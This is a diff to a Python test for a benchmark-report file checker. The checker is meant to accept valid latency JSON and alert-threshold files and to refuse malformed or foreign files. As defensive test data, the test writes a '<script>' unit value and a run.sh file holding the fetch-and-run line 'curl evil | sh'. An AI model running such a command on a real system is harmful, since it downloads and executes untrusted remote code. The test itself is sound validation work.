@@ -55,12 +55,17 @@ def test_the_check_passes_the_plugins_own_files_and_refuses_anything_else(tmp_pa
     reports = tmp_path / "reports" / "minilm-benchmark"
     reports.mkdir(parents=True)
     (reports / "smaller-is-better.json").write_text(json.dumps(
-        [{"name": "minilm latency_p50_ms", "unit": "ms", "value": 12.5, "extra": "cpu-2c sglang float32"}]))
-    assert run_check("benchmark", tmp_path / "reports").returncode == 0
+        [{"name": "minilm latency_p50_ms", "unit": "ms", "value": 12.5, "range": "± 1.25",
+          "extra": "cpu-2c sglang float32"}]))
+    (reports / "smaller-is-better-alert-threshold.txt").write_text("130%")
+    assert run_check("benchmark", reports).returncode == 0
 
     (reports / "bigger-is-better.json").write_text(json.dumps([{"name": "x", "unit": "<script>", "value": "1"}]))
-    refused = run_check("benchmark", tmp_path / "reports")
+    refused = run_check("benchmark", reports)
     assert refused.returncode == 1 and "figure 0: value is str" in refused.stdout
+    assert "bigger-is-better.json: no bigger-is-better-alert-threshold.txt beside it" in refused.stdout
+    (reports / "run.sh").write_text("curl evil | sh\n")
+    assert "run.sh: not a benchmark file" in run_check("benchmark", reports).stdout
 
     baselines = tmp_path / "baselines"
     baselines.mkdir()
